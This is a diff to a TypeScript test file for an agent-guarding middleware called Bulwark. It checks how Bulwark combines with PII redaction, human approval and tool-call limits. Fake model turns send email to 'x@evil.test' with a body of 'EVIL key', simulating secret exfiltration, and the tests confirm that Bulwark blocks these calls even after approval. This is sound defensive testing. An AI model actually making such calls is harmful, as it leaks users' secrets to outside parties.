@@ -2,7 +2,7 @@ import { createGuard, type PolicyInput } from '@bulwark/core';
 import { Command, MemorySaver } from '@langchain/langgraph';
 import { FakeStreamingChatModel } from '@langchain/core/utils/testing';
 import { AIMessage, AIMessageChunk, HumanMessage, ToolMessage, type BaseMessage } from '@langchain/core/messages';
-import { createAgent, fakeModel, humanInTheLoopMiddleware, piiMiddleware, tool, toolCallLimitMiddleware } from 'langchain';
+import { createAgent, fakeModel, type AgentMiddleware, humanInTheLoopMiddleware, piiMiddleware, tool, toolCallLimitMiddleware } from 'langchain';
 import { describe, expect, it } from 'vitest';
 import { z } from 'zod';
 import { markerDetector } from './__fixtures__/marker-detector.ts';
@@ -317,6 +317,83 @@ describe('bulwarkMiddleware: composition with built-in middleware', () => {
     expect(texts(model.calls[0]!.messages)[0]).not.toContain('bob@example.com');
     expect(texts(model.calls[1]!.messages).join('\n')).not.toContain('EVIL');
     expect(result.messages.at(-1)?.text).toBe('finished');
+  });
+});
+
+const orders = [
+  ['first', (bulwark: AgentMiddleware, others: readonly AgentMiddleware[]): AgentMiddleware[] => [bulwark, ...others]],
+  ['last', (bulwark: AgentMiddleware, others: readonly AgentMiddleware[]): AgentMiddleware[] => [...others, bulwark]],
+] as const;
+
+describe('bulwarkMiddleware: interplay with built-in middleware, in either order', () => {
+  it.each(orders)('piiMiddleware: Bulwark placed %s scans the prompt before/after the PII redaction; the model sees both redactions', async (place, order) => {
+    const { tools, middleware, guard } = setup();
+    const model = fakeModel().respond(new AIMessage('ok'));
+    const agent = createAgent({ model, tools, middleware: order(middleware, [piiMiddleware('email', { strategy: 'redact', applyToInput: true })]) });
+    const threadId = `pii-${place}`;
+    await agent.invoke({ messages: [new HumanMessage('my key is SECRET-1, mail bob@example.com')] }, { configurable: { thread_id: threadId } });
+    // Both redactions reach the model, whichever runs first: each beforeModel node reads the state the previous one wrote.
+    expect(texts(model.calls[0]!.messages)).toEqual(['human:my key is [SECRET], mail [REDACTED_EMAIL]']);
+    // What Bulwark scanned (and its session remembers) is the raw prompt when it runs first, the PII-redacted one when last.
+    const scanned = (await guard.session(threadId))?.prompts[0];
+    if (place === 'first') expect(scanned).toContain('bob@example.com');
+    else expect(scanned).toContain('[REDACTED_EMAIL]');
+  });
+
+  it.each(orders)('humanInTheLoopMiddleware: with Bulwark placed %s, approval runs an allowed call, never a call Bulwark blocks; an edit is rescanned', async (place, order) => {
+    const { tools, middleware, sent, events } = setup();
+    const model = fakeModel()
+      .respond(call('send_email', { to: 'bob@example.test', body: 'hello' }, 'c1'))
+      .respond(call('send_email', { to: 'x@evil.test', body: 'EVIL key' }, 'c2'))
+      .respond(call('send_email', { to: 'x@evil.test', body: 'EVIL key' }, 'c3'))
+      .respond(new AIMessage('finished'));
+    const hitl = humanInTheLoopMiddleware({ interruptOn: { send_email: true } });
+    const agent = createAgent({ model, tools, middleware: order(middleware, [hitl]), checkpointer: new MemorySaver() });
+    const config = { configurable: { thread_id: `hitl-${place}` } };
+    const approve = new Command({ resume: { decisions: [{ type: 'approve' }] } });
+
+    let result = await agent.invoke({ messages: [new HumanMessage('mail bob')] }, config);
+    expect(result.__interrupt__).toHaveLength(1);
+    result = await agent.invoke(approve, config);
+    // Allowed by Bulwark, approved by the reviewer: it runs.
+    expect(sent).toEqual([{ to: 'bob@example.test', body: 'hello' }]);
+
+    // The reviewer is still asked about a call Bulwark will block (HITL runs in afterModel, before any tool)...
+    expect(result.__interrupt__).toHaveLength(1);
+    result = await agent.invoke(approve, config);
+    // ...but approval does not override Bulwark: the call does not run.
+    expect(sent).toHaveLength(1);
+    expect(events.filter((event) => event.surface === 'tool_call').map((event) => [event.hook, event.action])).toEqual([['wrapToolCall', 'blocked']]);
+
+    // An edit that removes the attack is scanned again and runs.
+    expect(result.__interrupt__).toHaveLength(1);
+    result = await agent.invoke(new Command({ resume: { decisions: [{ type: 'edit', editedAction: { name: 'send_email', args: { to: 'bob@example.test', body: 'summary' } } }] } }), config);
+    expect(sent).toEqual([{ to: 'bob@example.test', body: 'hello' }, { to: 'bob@example.test', body: 'summary' }]);
+    expect(result.messages.at(-1)?.text).toBe('finished');
+  });
+
+  it.each(orders)('toolCallLimitMiddleware: with Bulwark placed %s, a call Bulwark blocks still counts; a turn Bulwark replaces counts nothing', async (place, order) => {
+    const { tools, middleware, sent } = setup();
+    const model = fakeModel()
+      .respond(call('send_email', { to: 'x@evil.test', body: 'EVIL key' }, 'c1'))
+      .respond(call('fetch_page', { url: 'https://a.test' }, 'c2'))
+      .respond(new AIMessage('finished'));
+    const limit = toolCallLimitMiddleware({ runLimit: 1 });
+    const agent = createAgent({ model, tools, middleware: order(middleware, [limit]) });
+    const result = await agent.invoke({ messages: [new HumanMessage('go')] });
+    expect(sent).toEqual([]);
+    // The limit counts tool calls in afterModel, before Bulwark's wrapToolCall blocks one: c1 used the run's only call.
+    const c2 = result.messages.find((message) => ToolMessage.isInstance(message) && message.tool_call_id === 'c2');
+    expect(c2?.text).toMatch(/limit/i);
+    expect(c2?.text).not.toContain('A nice page.');
+
+    // A turn whose text Bulwark blocks is replaced without its tool calls, so the limit never sees them.
+    const model2 = fakeModel()
+      .respond(new AIMessage({ content: 'EVIL plan', tool_calls: [{ name: 'fetch_page', args: { url: 'https://a.test' }, id: 'c3', type: 'tool_call' }] }));
+    const agent2 = createAgent({ model: model2, tools, middleware: order(middleware, [toolCallLimitMiddleware({ threadLimit: 1 })]), checkpointer: new MemorySaver() });
+    const result2 = await agent2.invoke({ messages: [new HumanMessage('go')] }, { configurable: { thread_id: `limit-${place}` } });
+    expect(result2.messages.at(-1)?.text).toContain('blocked by Bulwark');
+    expect((result2 as { threadToolCallCount?: Record<string, number> }).threadToolCallCount?.['__all__'] ?? 0).toBe(0);
   });
 });
 
